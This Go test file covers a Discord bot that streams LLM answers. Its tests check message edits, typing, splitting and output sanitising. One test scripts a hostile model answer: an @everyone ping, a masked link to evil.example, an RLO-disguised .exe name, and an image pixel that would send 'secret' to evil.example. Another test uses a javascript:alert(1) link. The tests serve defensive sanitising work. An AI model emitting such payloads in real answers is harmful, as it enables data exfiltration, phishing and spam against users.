package bot_test

import (
	"strings"
	"testing"
	"time"

	"feedbackbot/bot/discordtest"
	"feedbackbot/llm/llmtest"
)

// An answer appears as soon as it is worth a notification, grows, and its last
// edit alone carries the buttons. How fast it grows is in TestPaceOfEdits.
func TestAnswerGrows(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	events := w.watch(discordtest.KindMessage, discordtest.KindEdit)
	more := make(chan struct{})
	begun, whole := "It begins here, and it goes on,", "It begins here, and it goes on, until it ends."
	w.model.Queue(llmtest.Script{Tokens: []string{begun, strings.TrimPrefix(whole, begun)}, Hold: more})
	w.ask(w.discord.AddUser("ada").ID, "tell me a story")
	var states []string
	for {
		m := w.next(events, "the final edit", func(e discordtest.Event) bool {
			return e.Data.(discordtest.Message).Author.ID == w.discord.Bot().ID
		}).Data.(discordtest.Message)
		states = append(states, m.Content)
		if len(states) == 1 {
			close(more)
		}
		if rateable(m) {
			break
		}
	}
	last := states[len(states)-1]
	if states[0] != begun || last != whole || len(states) > 3 { // in between it may be shown without buttons
		t.Errorf("shown were %q, want first %q, last %q", states, begun, whole)
	}
	for _, state := range states {
		if !strings.HasPrefix(last, state) {
			t.Errorf("shown in between %q, want a beginning of %q", state, last)
		}
	}
}

// A few characters are shown after a moment even though they are few.
func TestShortBeginningIsShown(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	more := make(chan struct{})
	w.model.Queue(llmtest.Script{Tokens: []string{"Hm.", " Let me think."}, Hold: more})
	asked := w.ask(w.discord.AddUser("ada").ID, "are you there?")
	if shown := w.replied(asked.ID, "Hm."); strings.Contains(shown.Content, "think") {
		t.Errorf("shown at first: %q, want the three characters", shown.Content)
	}
	close(more)
	w.answered(asked.ID)
}

// The bot types while the model thinks, and does not hold the answer up for it.
func TestTyping(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	typing := w.watch(discordtest.KindTyping, discordtest.KindRequest)
	seen := make(chan struct{})
	w.model.SetAnswer(func(llmtest.Request) llmtest.Script {
		<-seen
		return llmtest.Script{Text: "Now."}
	})
	w.discord.Inject(discordtest.Fault{Method: "POST", Path: "/channels/*/typing", Status: 500, Times: 1})
	ada := w.discord.AddUser("ada")
	asked := w.ask(ada.ID, "think")
	w.next(typing, "a refused attempt to type", func(e discordtest.Event) bool {
		r, ok := e.Data.(discordtest.Request)
		return ok && strings.HasSuffix(r.Path, "/typing") && r.Status == 500
	})
	seen <- struct{}{}
	w.answered(asked.ID)
	asked = w.ask(ada.ID, "think again")
	w.next(typing, "typing", func(e discordtest.Event) bool { return e.Kind == discordtest.KindTyping })
	close(seen)
	w.answered(asked.ID)
}

// A long answer is split; the buttons stand under its last message alone, and
// only the first is a reply.
func TestLongAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	text := strings.TrimSpace(strings.Repeat("A sentence with several words in it. ", 130)) // 4,800 code points
	w.model.Queue(llmtest.Script{Text: text, TokenDelay: time.Millisecond})
	asked := w.ask(w.discord.AddUser("ada").ID, "tell me a lot")
	w.message("the last part", func(m discordtest.Message) bool { return rateable(m) })
	list := w.replies(asked.ChannelID)
	if len(list) != 3 {
		t.Fatalf("%d messages, want 3", len(list))
	}
	joined := ""
	for k, m := range list {
		if (rateable(m)) != (k == len(list)-1) {
			t.Errorf("message %d has %d rows, want buttons under the last alone", k, len(m.Components))
		}
		if refersTo(m, asked.ID) != (k == 0) {
			t.Errorf("message %d is a reply: %t", k, refersTo(m, asked.ID))
		}
		if r := w.response(m.ID); r.Answer != text {
			t.Errorf("message %d belongs to an answer of %d bytes, want %d", k, len(r.Answer), len(text))
		}
		joined += m.Content
	}
	if joined != text {
		t.Errorf("the messages together are %d bytes, want the text's %d", len(joined), len(text))
	}
}

// What a model writes pings nobody, hides no link and loads no preview.
func TestHostileAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	ada := w.discord.AddUser("ada")
	w.model.Queue(llmtest.Script{Text: "@everyone <@" + ada.ID + "> [your bank](https://evil.example/x) \u202egnp.exe\x07 ![pixel](https://evil.example/p?q=secret)"})
	m := w.answered(w.ask(ada.ID, "be evil").ID)
	if m.MentionEveryone || len(m.Mentions) > 0 {
		t.Errorf("the answer pings %v, everyone: %t", m.Mentions, m.MentionEveryone)
	}
	if !strings.Contains(m.Content, "your bank (<https://evil.example/x>)") || strings.Contains(m.Content, "](") {
		t.Errorf("content = %q, want the links shown", m.Content)
	}
	if strings.ContainsAny(m.Content, "\u202e\x07") {
		t.Errorf("content = %q, want no control characters", m.Content)
	}
	if m.Flags&4 == 0 {
		t.Errorf("flags = %d, want link previews suppressed", m.Flags)
	}
}

// An answer of which nothing is left to show gets a sentence, not silence.
func TestAnswerThatShowsNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	ada := w.discord.AddUser("ada")
	for _, text := range []string{"[ ](javascript:alert(1))", "\u200b\u202e"} {
		w.model.Queue(llmtest.Script{Text: text})
		if m := w.replied(w.ask(ada.ID, "say nothing").ID, ""); len(m.Content) < 20 || rateable(m) {
			t.Errorf("to %q the person is shown %q, want a sentence without buttons", text, m.Content)
		}
	}
}
